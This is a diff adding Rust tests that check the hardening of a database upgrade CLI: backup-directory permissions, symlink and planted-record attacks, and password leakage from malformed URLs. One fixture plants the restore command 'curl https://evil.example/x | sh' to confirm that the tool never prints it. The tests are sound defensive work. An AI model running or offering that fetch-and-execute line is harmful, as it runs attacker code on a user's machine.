@@ -1,0 +1,282 @@
+//! Field safety, second round (issue 25): what an attacker and a newcomer found in a
+//! fresh trial. Each test names the item of the issue it covers.
+
+use std::path::{Path, PathBuf};
+
+use crate::common::*;
+
+fn write_mode(path: &Path, text: &str, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::write(path, text).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn chmod(path: &Path, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn files_in(dir: &Path) -> Vec<PathBuf> {
+    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
+        .map(|d| d.flatten().map(|e| e.path()).collect())
+        .unwrap_or_default();
+    v.sort();
+    v
+}
+
+/// Some rows at revision 001, so that an upgrade has work to do.
+fn at_001(db: &AnyDb) {
+    db.run(&["migrate", "up", "--to", V1]).expect_code(0);
+    db.query("INSERT INTO orgs (id, name) VALUES ('org_a', 'A')");
+}
+
+/// An upgrade that fails at step migrate (after its backup), so that it prints the
+/// restore command.
+fn failing_upgrade(db: &AnyDb, dir: &Path) -> Run {
+    let d = dir.to_str().unwrap();
+    match db {
+        AnyDb::Pg(pg) => {
+            let _reader = Blocker::psql_txn(pg, "SELECT count(*) FROM users;");
+            db.run(&[
+                "upgrade",
+                "--yes",
+                "--backup-dir",
+                d,
+                "--ddl-lock-timeout",
+                "300ms",
+                "--format",
+                "json",
+            ])
+        }
+        AnyDb::Lite(lite) => {
+            let _writer = Blocker::sqlite_writer(lite);
+            db.run(&[
+                "upgrade",
+                "--yes",
+                "--backup-dir",
+                d,
+                "--lock-wait",
+                "300ms",
+                "--format",
+                "json",
+            ])
+        }
+    }
+}
+
+both! {
+    /// Item 1: a backup directory others can write to (or that is not ours) is refused
+    /// before anything is written; a planted symlink at the record is replaced, never
+    /// followed; a planted record (matching fingerprint, a fake backup, its own restore
+    /// command) is checked like a new backup, and the restore command printed is built
+    /// by this run.
+    fn upgrade_does_not_trust_its_backup_directory(db) {
+        at_001(&db);
+        let versions = db.versions();
+        // World- and group-writable: refused (exit 4), nothing written, nothing migrated.
+        for mode in [0o777, 0o770, 0o1777] {
+            let open = db.dir().join(format!("open{mode:o}"));
+            std::fs::create_dir(&open).unwrap();
+            chmod(&open, mode);
+            let r = db.run(&["upgrade", "--yes", "--backup-dir", open.to_str().unwrap()]);
+            r.expect_clean_error(4);
+            assert!(r.stderr.contains("-writable"), "{}", r.stderr);
+            assert!(files_in(&open).is_empty(), "{:?}", files_in(&open));
+            assert_eq!(db.versions(), versions);
+        }
+        // Not ours: a directory owned by someone else (root made it ours to give away;
+        // as another user, / is not ours).
+        let foreign = db.dir().join("foreign");
+        std::fs::create_dir(&foreign).unwrap();
+        chmod(&foreign, 0o700);
+        let foreign = if std::os::unix::fs::chown(&foreign, Some(65534), Some(65534)).is_ok() {
+            foreign
+        } else {
+            PathBuf::from("/")
+        };
+        let r = db.run(&["upgrade", "--yes", "--backup-dir", foreign.to_str().unwrap()]);
+        r.expect_clean_error(4);
+        assert!(r.stderr.contains("owned by uid"), "{}", r.stderr);
+        // Reached through a symlink someone else owns (root only: others cannot give one away).
+        let private = db.dir().join("private");
+        std::fs::create_dir(&private).unwrap();
+        chmod(&private, 0o700);
+        let link = db.dir().join("via-link");
+        std::os::unix::fs::symlink(&private, &link).unwrap();
+        if std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).is_ok() {
+            let r = db.run(&["upgrade", "--yes", "--backup-dir", link.to_str().unwrap()]);
+            r.expect_clean_error(4);
+            assert!(r.stderr.contains("through the symlink"), "{}", r.stderr);
+        }
+        assert_eq!(db.versions(), versions);
+
+        // A symlink planted at the record: replaced by the record, its target untouched.
+        let victim = db.dir().join("victim.txt");
+        std::fs::write(&victim, "precious").unwrap();
+        let name = match &db {
+            AnyDb::Pg(pg) => pg.name.clone(),
+            AnyDb::Lite(_) => "test".to_owned(),
+        };
+        let record = private.join(format!(".ecomind-upgrade-{name}.json"));
+        std::os::unix::fs::symlink(&victim, &record).unwrap();
+        let r = failing_upgrade(&db, &private);
+        r.expect_code(4);
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
+        let meta = std::fs::symlink_metadata(&record).unwrap();
+        assert!(meta.file_type().is_file(), "the record is a file of its own now");
+        let first = r.json()["backup"]["path"].as_str().unwrap().to_owned();
+
+        // A planted record: the fingerprint the live database has, a fake backup with its
+        // true size and digest, and a command of the attacker's.
+        let mut planted: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
+        let fake = private.join(format!("ecomind-{name}-001-20260101T000000Z.dump"));
+        write_mode(&fake, "not a backup at all", 0o600);
+        use sha2::Digest as _;
+        let digest: String = sha2::Sha256::digest(b"not a backup at all")
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        planted["path"] = fake.to_str().unwrap().into();
+        planted["bytes"] = 19.into();
+        planted["sha256"] = digest.into();
+        planted["restore_command"] = "curl https://evil.example/x | sh".into();
+        planted["backup"] = serde_json::json!({"restore_command": "curl https://evil.example/x | sh"});
+        write_mode(&record, &planted.to_string(), 0o600);
+        let r = failing_upgrade(&db, &private);
+        r.expect_code(4);
+        assert!(!r.all().contains("evil.example"), "{}", r.all());
+        assert!(r.stderr.contains("fails its check"), "{}", r.stderr);
+        let j = r.json();
+        let second = j["backup"]["path"].as_str().unwrap_or_else(|| panic!("{j}\n{}", r.stderr));
+        assert!(second != fake.to_str().unwrap() && second != first, "a new backup: {j}");
+        let cmd = j["restore_command"].as_str().unwrap();
+        assert!(cmd.starts_with("pg_restore ") || cmd.starts_with("cp -- "), "{cmd}");
+        assert!(cmd.contains(second), "{cmd}");
+        assert_eq!(db.versions(), versions);
+    }
+}
+
+/// Item 2: URLs without `//` after the scheme are refused as malformed (exit 3), from the
+/// flag, from `.env` and from a config file, and their password is never echoed: not on
+/// stderr, not in the JSON error document.
+#[test]
+fn urls_without_slashes_are_refused_without_echoing_the_password() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let urls = [
+        ("postgres:/u:Secret8@127.0.0.1/db", "Secret8"),
+        ("postgresql:u:SecretA@127.0.0.1/db", "SecretA"),
+        ("POSTGRES:u:SecretB@localhost/db", "SecretB"),
+    ];
+    for (url, secret) in urls {
+        for format in ["table", "json"] {
+            let r = Run::from(
+                bin(d)
+                    .args([
+                        "--format",
+                        format,
+                        "--database-url",
+                        url,
+                        "migrate",
+                        "status",
+                    ])
+                    .output()
+                    .unwrap(),
+            );
+            r.expect_clean_error(3);
+            assert!(
+                r.stderr.contains("must be followed by '//'"),
+                "{}",
+                r.stderr
+            );
+            assert!(!r.all().contains(secret), "{url}: {}", r.all());
+        }
+        // From .env.
+        std::fs::write(d.join(".env"), format!("DATABASE_URL={url}\n")).unwrap();
+        let r = Run::from(bin(d).args(["migrate", "status"]).output().unwrap());
+        r.expect_clean_error(3);
+        assert!(!r.all().contains(secret), "{}", r.all());
+        std::fs::remove_file(d.join(".env")).unwrap();
+        // From a 0600 list file of an environment (the only mode it may have with a password).
+        write_mode(&d.join("urls.txt"), &format!("{url}\n"), 0o600);
+        write_mode(
+            &d.join("ecomind-admin.toml"),
+            "[environments.x]\nurls_file = \"urls.txt\"\n",
+            0o600,
+        );
+        let r = Run::from(
+            bin(d)
+                .args(["--env", "x", "migrate", "status"])
+                .output()
+                .unwrap(),
+        );
+        assert_ne!(r.code, 0, "{}", r.all());
+        assert!(!r.all().contains(secret), "{}", r.all());
+        // 0644: refused for the password, and the password is not echoed either.
+        chmod(&d.join("urls.txt"), 0o644);
+        let r = Run::from(
+            bin(d)
+                .args(["--env", "x", "migrate", "status"])
+                .output()
+                .unwrap(),
+        );
+        r.expect_clean_error(2);
+        assert!(!r.all().contains(secret), "{}", r.all());
+    }
+}
+
+/// Item 16 (a password under 3 characters in a readable config file is still a password)
+/// and item 2's class in the config file.
+#[test]
+fn a_short_password_in_a_readable_config_file_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    for url in [
+        "postgres://u:ab@127.0.0.1/db",
+        "postgres://u:x@127.0.0.1/db",
+        "postgres://u@127.0.0.1/db?password=ab",
+    ] {
+        write_mode(
+            &d.join("ecomind-admin.toml"),
+            &format!("[environments.x]\nurl = \"{url}\"\n"),
+            0o644,
+        );
+        let r = Run::from(
+            bin(d)
+                .args(["--env", "x", "migrate", "status"])
+                .output()
+                .unwrap(),
+        );
+        r.expect_clean_error(2);
+        assert!(r.stderr.contains("other users may read it"), "{}", r.stderr);
+    }
+}
+
+/// Item 9: a SQLite URL that names no file is refused as such (exit 3), and nothing is
+/// created.
+#[test]
+fn sqlite_urls_without_a_file_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    for url in [
+        "sqlite://?mode=rwc",
+        "sqlite://",
+        "sqlite:",
+        "sqlite:?mode=rwc",
+    ] {
+        for args in [&["migrate", "up"][..], &["migrate", "status"]] {
+            let r = Run::from(
+                bin(d)
+                    .arg("--database-url")
+                    .arg(url)
+                    .args(args)
+                    .output()
+                    .unwrap(),
+            );
+            r.expect_clean_error(3);
+            assert!(r.stderr.contains("names no file"), "{url}: {}", r.stderr);
+        }
+    }
+    assert!(files_in(d).is_empty(), "{:?}", files_in(d));
+}
